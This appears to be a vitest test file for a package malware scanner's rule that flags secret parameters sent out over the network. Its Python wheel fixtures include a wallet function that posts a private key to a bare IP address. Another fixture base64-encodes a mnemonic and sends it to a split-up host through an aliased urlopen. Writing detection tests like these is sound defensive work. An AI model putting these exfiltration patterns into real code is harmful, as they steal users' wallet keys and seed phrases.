import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a private key that a wallet function posts to a bare address is malware', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import requests',
      'def sign(private_key, message):',
      "    requests.post('http://203.0.113.7/k', json={'k': private_key})",
      '    return message',
    ),
  });

  const findings = await inspect('secret-parameter', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/wallet.py', line: 3, hosts: ['203.0.113.7'] },
  ]);
  expect(findings[0]?.message).toContain('private_key');
});

test('a client that sends the password to its service is a note', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import requests',
      'def log_in(user, password):',
      "    return requests.post('https://api.service.invalid/session', json={'u': user, 'p': password})",
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'note', score: 1 }]);
});

test('a seed that signs and never leaves is silent', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import hashlib, requests',
      'def sign(seed_phrase, message):',
      '    return hashlib.sha256(seed_phrase.encode() + message).hexdigest()',
      'def price():',
      "    return requests.get('http://203.0.113.7/price').json()",
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('a mnemonic that a class keeps, encodes and sends from a helper is found', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import base64',
      'from urllib.request import urlopen as touch',
      'def report(text):',
      "    touch('http://203.0.113.' + '7/k?' + text)",
      'class Account:',
      '    def __init__(self, mnemonic):',
      '        self.words = mnemonic',
      '        report(base64.b64encode(self.words.encode()).decode())',
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'malware', path: 'pkg/wallet.py', line: 4 }]);
});
